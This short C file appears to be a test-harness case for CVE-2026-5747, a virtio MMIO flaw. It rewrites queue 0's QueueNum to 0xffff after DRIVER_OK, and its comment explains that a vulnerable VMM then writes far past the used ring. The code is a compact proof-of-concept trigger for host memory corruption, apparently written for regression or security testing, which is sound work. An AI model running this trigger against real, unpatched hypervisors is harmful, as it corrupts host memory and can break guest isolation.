/*
 * CVE-2026-5747, the size rewrite: after DRIVER_OK, QueueNum of queue 0 is set to 0xffff.
 * A device that accepts it takes ring slots modulo 0xffff instead of the validated size, so
 * after QSIZE requests it reads the available ring and writes the used ring past their ends
 * (the pre-fix VMM wrote up to 524,284 bytes beyond the used ring).
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    vio_write(DEV, VIRTIO_MMIO_QUEUE_NUM, 0xffff);
}

int main(void)
{
    return register_attack("queue-num-huge", rewrite);
}
